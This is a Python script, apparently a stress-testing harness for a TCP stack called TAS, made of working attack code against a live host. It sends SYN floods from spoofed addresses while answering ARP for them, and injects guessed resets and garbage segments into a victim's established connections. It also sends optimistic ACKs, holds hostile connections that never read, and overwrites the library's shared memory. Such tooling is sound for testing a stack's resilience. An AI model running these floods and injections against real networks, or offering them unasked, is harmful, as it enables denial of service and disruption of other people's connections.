# SPDX-License-Identifier: MIT OR Apache-2.0
"""Attacks on a live host. Each runs until it is ended and prints a line of JSON every second: what it sent.

    attack.py spin                                          nothing but the same processor time
    attack.py syn-flood DEVICE TARGET PORT PER_SECOND       SYNs from addresses whose owner answers ARP and nothing else
    attack.py peer DEVICE TARGET PORT OTHER PER_SECOND      garbage on the victim's own connection, and hostile connections
                                                            to the listener at OTHER
    attack.py application PEER PORT                         garbage in every byte of TAS that an application has mapped
"""
import ctypes
import fcntl
import json
import os
import random
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
# Frames made ahead and sent again and again: making one takes longer than sending it.
READY = 2048
# Last bytes of the addresses that SYNs come from.
SOURCES = range(16, 250)
SIOCGIFHWADDR = 0x8927
ETH_P_ALL = 3


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


class Card:
    """Raw frames on an interface of this host, to one target."""

    def __init__(self, device, target, seed):
        self.random = random.Random(seed)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.socket.bind((device, 0))
        self.socket.setblocking(False)
        found = fcntl.ioctl(self.socket.fileno(), SIOCGIFHWADDR, struct.pack("256s", device.encode()))
        self.mac = found[18:24]
        self.target = socket.inet_aton(target)
        self.target_mac = self.ask(target)
        self.sent = 0

    def ask(self, target):
        """The target's hardware address, as Linux knows it."""
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(50):
            probe.sendto(b"", (target, 9))
            with open("/proc/net/arp") as table:
                for entry in map(str.split, table):
                    if entry[0] == target and entry[2] != "0x0":
                        return bytes.fromhex(entry[3].replace(":", ""))
            time.sleep(0.1)
        raise SystemExit(f"attack: {target} does not answer ARP")

    def segment(self, source, source_port, port, sequence, acknowledgement, flags, window=65535, options=b"", payload=b"", urgent=0):
        options = options[:40] + b"\0" * (-len(options[:40]) % 4)
        tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence & 0xFFFFFFFF, acknowledgement & 0xFFFFFFFF,
                          (5 + len(options) // 4) << 4, flags, window, 0, urgent) + options + payload
        pseudo = source + self.target + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, self.target)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.target_mac + self.mac + b"\x08\x00" + ip + tcp

    def send(self, frame):
        try:
            self.socket.send(frame)
            self.sent += 1
        except BlockingIOError:
            pass

    def listen(self, ours, heard=None):
        """Answers ARP for the addresses `ours`; every segment to one of them goes to `heard`."""
        for _ in range(256):
            try:
                frame = self.socket.recv(2048)
            except BlockingIOError:
                return
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1" and frame[38:42] in ours:
                body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + self.mac + frame[38:42] + self.target_mac + self.target
                self.socket.send((self.target_mac + self.mac + b"\x08\x06" + body).ljust(60, b"\0"))
            elif heard and frame[12:14] == b"\x08\x00" and frame[23] == 6 and frame[30:34] in ours:
                heard(frame)


class Pace:
    """So many in a second, as far as the processor time reaches; a report every second."""

    def __init__(self, card, per_second):
        self.card, self.per_second = card, per_second
        self.begin = self.told = time.monotonic()

    def due(self):
        now = time.monotonic()
        if now - self.told >= 1:
            self.told = now
            print(json.dumps({"seconds": round(now - self.begin, 1), "sent": self.card.sent,
                              "per_second": round(self.card.sent / (now - self.begin))}), flush=True)
        behind = (now - self.begin) * self.per_second - self.card.sent
        if behind < 1:
            time.sleep(0.001)
        return int(min(behind, 512))


def subnet(target):
    return {target[:3] + bytes([last]) for last in SOURCES}


SYN_OPTIONS = bytes([2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 16, 0, 0, 0, 0, 0, 1, 3, 3, 7])


def syn_flood(device, target, port, per_second):
    card = Card(device, target, 1)
    ours = subnet(card.target)
    sources = sorted(ours)
    choose = card.random
    frames = [card.segment(choose.choice(sources), choose.randrange(1024, 65536), port, choose.getrandbits(32), 0, SYN,
                           options=SYN_OPTIONS) for _ in range(READY)]
    pace, number = Pace(card, per_second), 0
    while True:
        for _ in range(pace.due()):
            card.send(frames[number % READY])
            number += 1
            if number % READY == 0:
                # Other ports the next time round: a SYN that is known already costs less.
                at = choose.randrange(READY)
                frames[at] = card.segment(choose.choice(sources), choose.randrange(1024, 65536), port, choose.getrandbits(32), 0,
                                          SYN, options=SYN_OPTIONS)
        card.listen(ours)


def victims(target, port):
    """Ports of this host's connections to the target: what an attacker who has found out everything knows."""
    found = []
    with open("/proc/net/tcp") as table:
        for entry in list(map(str.split, table))[1:]:
            local, remote = entry[1].split(":"), entry[2].split(":")
            if int(remote[1], 16) == port and bytes.fromhex(remote[0])[::-1] == target and entry[3] == "01":
                found.append((bytes.fromhex(local[0])[::-1], int(local[1], 16)))
    return found


def garbage_segment(card, source, source_port, port):
    """Anything but the one reset that counts: numbers are guessed."""
    choose = card.random
    kind = choose.randrange(8)
    flags = (RST, RST | ACK, SYN, SYN | ACK, ACK, ACK | PSH, FIN | ACK, ACK | URG)[kind]
    options = b"" if choose.random() < 0.3 else choose.randbytes(choose.randrange(41))
    if choose.random() < 0.3:
        options = b"\x01\x01\x08\x0a" + choose.randbytes(8)
    payload = choose.randbytes(choose.choice((0, 1, 100, 1400))) if flags & ACK and not flags & (RST | SYN) else b""
    return card.segment(source, source_port, port, choose.getrandbits(32), choose.getrandbits(32), flags,
                        window=choose.getrandbits(16), options=options, payload=payload, urgent=choose.getrandbits(16))


def hostile_connections(target, port):
    """Connections that ask and never read, and some that are torn down at once."""
    kept = []
    for number in range(40):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        one.setblocking(False)
        try:
            one.connect((target, port))
        except BlockingIOError:
            pass
        kept.append(one)
    time.sleep(0.2)
    for one in kept:
        try:
            one.send(b"flow 600 12500000")
        except OSError:
            pass
    return kept


def hostile_peer(device, target, port, other, per_second):
    card = Card(device, target, 2)
    choose, ours = card.random, subnet(card.target)
    # Kept open.
    kept = hostile_connections(target, other)  # noqa: F841

    def optimistic(frame):
        # A handshake of an address that is no host's, then acknowledgements of what was never sent, and windows that shrink.
        source_port, to_port, sequence, acknowledgement = struct.unpack("!HHII", frame[34:46])
        if frame[47] & SYN:
            for ahead, window in ((1, 65535), (1 << 20, 65535), (1, 10), (5000, 0)):
                card.send(card.segment(frame[30:34], to_port, source_port, acknowledgement, sequence + ahead, ACK, window=window))

    pace, frames, renewed = Pace(card, per_second), [], 0
    while True:
        now = time.monotonic()
        if now - renewed > 1:
            renewed = now
            honest = victims(card.target, port) or [(sorted(ours)[0], 5)]
            frames = [garbage_segment(card, *choose.choice(honest), port) for _ in range(READY // 4)]
            frames += [garbage_segment(card, choose.choice(sorted(ours)), choose.randrange(65536), choose.randrange(65536))
                       for _ in range(READY // 8)]
            frames += [card.segment(sorted(ours)[0], choose.randrange(1024, 65536), other, choose.getrandbits(32), 0, SYN,
                                    options=choose.randbytes(40)) for _ in range(4)]
        for _ in range(pace.due()):
            card.send(choose.choice(frames))
        card.listen(ours, optimistic)


def hostile_application(peer, port):
    """In a process of its own again and again: the library may well fall over what it finds."""
    rounds, begin = 0, time.monotonic()
    while True:
        child = os.fork()
        if child == 0:
            try:
                scribble(peer, port, random.Random(rounds))
            finally:
                os._exit(1)
        os.waitpid(child, 0)
        rounds += 1
        print(json.dumps({"seconds": round(time.monotonic() - begin, 1), "applications": rounds}), flush=True)


def scribble(peer, port, source):
    # Prefix of a request to the victim's server, so that a live flow is among what is written over.
    connection = socket.create_connection((peer, port), 20)
    connection.sendall(b"flow 600 1000000")
    areas = []
    with open("/proc/self/maps") as maps:
        for entry in map(str.split, maps):
            if "tas" in " ".join(entry[5:]) and entry[1].startswith("rw") and "s" in entry[1]:
                start, end = (int(bound, 16) for bound in entry[0].split("-"))
                areas.append((start, end - start))
    if not areas:
        raise SystemExit("attack: no writable mapping of TAS found")
    until = time.monotonic() + 2
    while time.monotonic() < until:
        for start, length in areas:
            block = source.randbytes(4096)
            for offset in range(0, length, 4096):
                ctypes.memmove(start + offset, block, 4096)


def main():
    kind, words = sys.argv[1], sys.argv[2:]
    if kind == "spin":
        while True:
            pass
    elif kind == "syn-flood":
        syn_flood(words[0], words[1], int(words[2]), int(words[3]))
    elif kind == "peer":
        hostile_peer(words[0], words[1], int(words[2]), int(words[3]), int(words[4]))
    elif kind == "application":
        hostile_application(words[0], int(words[1]))
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
